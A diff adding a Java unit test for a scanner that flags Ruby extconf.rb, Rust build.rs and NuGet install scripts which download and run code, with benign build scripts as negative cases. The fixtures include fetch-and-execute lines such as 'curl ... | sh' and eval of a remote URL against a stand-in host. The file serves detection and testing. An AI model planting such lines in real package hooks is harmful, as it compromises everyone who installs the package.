@@ -1,0 +1,115 @@
+package dev.assay.detectors.indicator.autorun;
+
+import static java.nio.charset.StandardCharsets.UTF_8;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.assay.detectors.AllDetectors;
+import dev.assay.engine.report.Finding;
+import dev.assay.engine.scan.MemoryConnector;
+import dev.assay.engine.scan.TestScan;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.util.List;
+import java.util.Set;
+import java.util.zip.ZipEntry;
+import java.util.zip.ZipOutputStream;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** Programs that are hooks by their name: what they do decides, where a tool runs them. */
+class HookProgramTest {
+    private static final String BAD = "curl -s http://192.0.2.1/x | sh";
+
+    private static List<Finding> scan(String name, byte[] bytes) {
+        return new TestScan(AllDetectors.ALL)
+                .only(Set.of("indicator"))
+                .run(new MemoryConnector().file(name, bytes))
+                .findings();
+    }
+
+    private static List<String> ids(String name, String program) {
+        return scan(name, program.getBytes(UTF_8)).stream().map(Finding::ruleId).toList();
+    }
+
+    private static byte[] zip(String member, String program) throws IOException {
+        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
+            zip.putNextEntry(new ZipEntry(member));
+            zip.write(program.getBytes(UTF_8));
+        }
+        return bytes.toByteArray();
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '~',
+            value = {
+                "ext/a/extconf.rb ~ require 'mkmf';system('BAD');create_makefile('a')",
+                "ext/extconf.rb ~ require 'mkmf';`BAD`",
+                "extconf.rb ~ system('curl', '-so', '/tmp/x', 'http://192.0.2.1/x');system('/tmp/x')",
+                "extconf.rb ~ require 'open-uri';eval(URI.open('http://192.0.2.1/x').read)",
+                "build.rs ~ use std::process::Command;fn main() { Command::new(\"sh\").arg(\"-c\").arg(\"BAD\").status(); }",
+                "a/build.rs ~ fn main() { Command::new(\"sh\").args([\"-c\", \"BAD\"]).spawn(); }",
+                "build.rs ~ let mut c = Command::new(\"bash\"); c.arg(\"-c\");c.arg(\"BAD\");",
+                "build.rs ~ Command::new(\"curl\").args(&[\"-o\", \"/tmp/x\", \"http://192.0.2.1/x\"]).status();"
+                        + "Command::new(\"/tmp/x\").spawn();",
+            })
+    void whatTheyDoIsDoneByTheTool(String name, String program) {
+        assertThat(ids(name, program.replace(";", ";\n").replace("BAD", BAD)))
+                .containsExactly("indicator/hook-runs-download");
+    }
+
+    @Test
+    void aFindingIsToldAtItsLine() {
+        List<Finding> found = scan("extconf.rb", ("require 'mkmf'\nsystem('" + BAD + "')\n").getBytes(UTF_8));
+        assertThat(found.getFirst().location().line()).isEqualTo(2);
+        assertThat(found.getFirst().title()).startsWith("rubygems runs what it downloads");
+        assertThat(found.getFirst().evidence().get("command")).doesNotContain("mkmf");
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '~',
+            value = {
+                // what extensions and crates do
+                "extconf.rb ~ require 'mkmf';pkg_config('libxml-2.0');have_library('z') || abort('no');create_makefile('a/a')",
+                "extconf.rb ~ # curl https://a.example/x | sh;V = `pkg-config --modversion x`.strip;create_makefile('a')",
+                "extconf.rb ~ require 'mini_portile2';r = MiniPortile.new('x', '1.0');r.files = ['https://a.example/x.tgz'];r.cook",
+                "extconf.rb ~ system(\"tar xzf #{f} && cd x && ./configure --prefix=#{p} && make install\")",
+                "extconf.rb ~ URI.open(u) { |i| File.binwrite(f, i.read) };system('tar', 'xf', f)",
+                "build.rs ~ fn main() { println!(\"cargo:rerun-if-changed=a.c\"); cc::Build::new().file(\"a.c\").compile(\"a\"); }",
+                "build.rs ~ let v = Command::new(\"git\").args([\"rev-parse\", \"HEAD\"]).output().unwrap();",
+                "build.rs ~ let lib = pkg_config::Config::new().probe(\"openssl\").unwrap();Command::new(\"make\").spawn();",
+                "build.rs ~ Command::new(\"curl\").args(&[\"-Lo\", \"x.tgz\", url]).status();Command::new(\"tar\").arg(\"xf\").arg(\"x.tgz\");",
+                "build.rs ~ const P: &'static str = \"a\";fn f<'a>(x: &'a str) -> &'a str { x }",
+            })
+    void whatBuildsDoIsNone(String name, String program) {
+        assertThat(ids(name, program.replace(";", ";\n"))).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "tools/chocolateyInstall.ps1",
+                "home/.nuget/packages/a/1.0.0/tools/init.ps1",
+                "app/packages/A.1.0.0/tools/install.ps1",
+            })
+    void scriptsOfNugetByTheirPlace(String path) {
+        assertThat(ids(path, BAD)).containsExactly("indicator/hook-runs-download");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"install.ps1", "tools/install.ps1", "scripts/init.ps1", "packages/a/install.ps1"})
+    void scriptsThatPeopleStartThemselves(String path) {
+        assertThat(ids(path, BAD)).isEmpty();
+    }
+
+    @Test
+    void scriptsOfAPackageOfNuget() throws IOException {
+        assertThat(scan("a.1.0.0.nupkg", zip("tools/Init.ps1", BAD))).hasSize(1);
+        assertThat(scan("a.1.0.0.nupkg", zip("content/init.ps1", BAD))).isEmpty();
+        assertThat(scan("a.zip", zip("tools/init.ps1", BAD))).isEmpty();
+    }
+}
